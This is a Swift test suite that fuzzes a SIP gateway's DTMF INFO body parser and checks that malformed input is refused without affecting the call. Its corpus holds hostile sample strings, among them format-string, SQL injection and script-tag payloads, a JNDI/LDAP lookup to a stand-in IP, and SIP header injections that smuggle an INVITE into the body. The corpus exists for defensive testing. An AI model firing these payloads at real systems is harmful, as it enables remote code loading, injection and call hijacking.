import CoreTypes
import SIP
import Testing
@testable import Gateway

/// Hostile INFO bodies, as a fuzzer's corpus would hold them: none may trap, none may turn
/// into a digit, and each INFO carrying one is refused without touching the call.
@Suite struct DTMFInfoCorpusTests {
    /// (body, Content-Type)
    static let maliciousBodies: [(String, String)] = [
        ("%s%s%s%n%x", "application/dtmf-relay"),
        ("Signal=1' OR '1'='1", "application/dtmf-relay"),
        ("<script>alert(1)</script>", "application/dtmf-relay"),
        ("Signal=${jndi:ldap://203.0.113.9/a}", "application/dtmf-relay"),
        ("Signal=5\r\n\r\nINVITE sip:victim@example.com SIP/2.0", "application/dtmf-relay"),
        ("Signal=5\r\nVia: SIP/2.0/UDP 203.0.113.9;branch=z9hG4bK-evil", "application/dtmf-relay"),
        (String(repeating: "Signal=1\r\n", count: 100), "application/dtmf-relay"),
        (String(repeating: "Signal=1\r\n", count: 40), "application/dtmf-relay"),
        (String(repeating: "a=b\r\n", count: 102), "application/dtmf-relay"),
        (String(repeating: "=", count: 512), "application/dtmf-relay"),
        (String(repeating: "\r\n", count: 4096) + "Signal=1", "application/dtmf-relay"),
        ("Signal=1\r\nDuration=18446744073709551616", "application/dtmf-relay"),
        ("Signal=1\r\nDuration=9223372036854775807", "application/dtmf-relay"),
        ("Signal=1\r\nDuration=-0", "application/dtmf-relay"),
        ("Signal=1\r\nDuration=0000000000100", "application/dtmf-relay"),
        ("Signal=%35", "application/dtmf-relay"),
        ("Signal=5=5", "application/dtmf-relay"),
        ("Signal=\t", "application/dtmf-relay"),
        ("Signal", "application/dtmf-relay"),
        ("=", "application/dtmf-relay"),
        ("\r\n=\r\n", "application/dtmf-relay"),
        ("Signal=1\u{2028}Duration=100", "application/dtmf-relay"),
        ("Signal=\u{0663}", "application/dtmf-relay"),
        ("Signal=5\u{0}Duration=100", "application/dtmf-relay"),
        ("Signal=256", "application/dtmf-relay"),
        ("Signal=4294967301", "application/dtmf-relay"),
        ("*#", "application/dtmf"),
        ("-1", "application/dtmf"),
        ("0x0F", "application/dtmf"),
        ("255", "application/dtmf"),
        ("99999999999999999999", "application/dtmf"),
        ("1\u{0}", "application/dtmf"),
        ("Signal=", "application/dtmf"),
        ("\u{1F600}", "application/dtmf"),
    ]

    @Test(arguments: maliciousBodies)
    func neverADigit(body: String, contentType: String) throws {
        let format = try #require(DTMFInfoBody.Format(mediaType: contentType))
        #expect(throws: DTMFInfoBody.ParseError.self) { try DTMFInfoBody.parse(Array(body.utf8), format: format) }

        var (call, _) = try connectedCall()
        let actions = call.handle(.sipRequest(trunkInfo(body, contentType: contentType)), now: Fixture.start + .seconds(10))
        #expect(steps(actions) == [.respond(400)])
        #expect(sentResponses(actions).first?.headers["Warning"]?.hasPrefix("399 gateway \"") == true)
        #expect(call.end == nil && call.webState == .connected)
    }

    /// Random bytes and mutations of a good body: parsing never traps, and whatever it
    /// accepts is a real key with a bounded duration that writes back to the same body.
    @Test func randomAndMutatedBodiesNeverTrapNorInventKeys() throws {
        var random = SplitMix64(seed: 0x6086)
        let alphabet = Array("Signal=Duration0123456789*#ABCDabcdxyz \t\r\n=-+.".utf8) + [0x00, 0x7F, 0xC3, 0xFF]
        let seeds = ["Signal=5\r\nDuration=160", "Signal=11\r\nDuration=100\r\n", "7", "12"].map { Array($0.utf8) }
        var accepted = 0, refused = 0
        for round in 0..<6000 {
            var bytes: [UInt8]
            if round % 2 == 0 {
                bytes = (0..<random.next(below: 64)).map { _ in alphabet[random.next(below: alphabet.count)] }
            } else {
                bytes = seeds[random.next(below: seeds.count)]
                for _ in 0...random.next(below: 4) {
                    let at = random.next(below: bytes.count + 1)
                    switch random.next(below: 3) {
                    case 0: bytes.insert(alphabet[random.next(below: alphabet.count)], at: at)
                    case 1: if at < bytes.count { bytes.remove(at: at) }
                    default: if at < bytes.count { bytes[at] = alphabet[random.next(below: alphabet.count)] }
                    }
                }
            }
            let format: DTMFInfoBody.Format = random.next(below: 2) == 0 ? .dtmfRelay : .dtmf
            guard let body = try? DTMFInfoBody.parse(bytes, format: format) else {
                refused += 1
                continue
            }
            accepted += 1
            #expect("0123456789*#ABCD".contains(body.digit), "\(bytes) gave \(body.digit)")
            #expect((body.duration ?? .zero) <= DTMFInfoBody.maximumDuration)
            #expect(try DTMFInfoBody.parse(body.serialized(as: .dtmfRelay), format: .dtmfRelay).digit == body.digit)
        }
        #expect(accepted > 100 && refused > 100, "the corpus reaches both outcomes (\(accepted) / \(refused))")
    }
}

/// A small deterministic generator (SplitMix64) so every run explores the same bodies.
private struct SplitMix64 {
    var state: UInt64
    init(seed: UInt64) { state = seed }

    mutating func next() -> UInt64 {
        state &+= 0x9E37_79B9_7F4A_7C15
        var z = state
        z = (z ^ (z >> 30)) &* 0xBF58_476D_1CE4_E5B9
        z = (z ^ (z >> 27)) &* 0x94D0_49BB_1331_11EB
        return z ^ (z >> 31)
    }

    mutating func next(below bound: Int) -> Int { bound <= 0 ? 0 : Int(next() % UInt64(bound)) }
}
